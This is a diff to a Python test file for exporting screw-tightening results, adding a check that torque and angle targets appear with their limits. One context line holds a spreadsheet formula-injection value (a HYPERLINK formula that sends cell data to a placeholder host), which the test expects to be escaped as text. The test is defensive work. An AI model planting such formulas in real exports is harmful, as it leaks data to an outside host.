@@ -78,3 +78,21 @@ def test_a_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
     assert out[0]["comment"] == '\'=HYPERLINK("http://x/?"&A2,"go")'
     assert out[0]["operator"] == "'@olga"
     assert out[0]["angle_deg"] == "-3.5" and out[0]["vin"] == VIN     # numbers as they are
+
+
+def test_every_tightening_row_carries_the_targets_sent_with_its_limits(tmp_path: Path) -> None:
+    """A quality trial: the line had each rundown's targets, the station's own export only
+    the limits."""
+    repo = results_db(tmp_path)
+    try:
+        rows = [r for r in Results(repo).export(VIN) if r.get("rundown") == "tightening"]
+        assert rows
+        for r in rows:
+            assert r["torque_min_nm"] < r["torque_target_nm"] < r["torque_max_nm"], r
+            assert r["angle_min_deg"] < r["angle_target_deg"] < r["angle_max_deg"], r
+        import csv
+        import io
+        head = next(csv.reader(io.StringIO(rundowns_csv(rows))))
+        assert {"torque_target_nm", "angle_target_deg"} <= set(head)
+    finally:
+        repo.close()
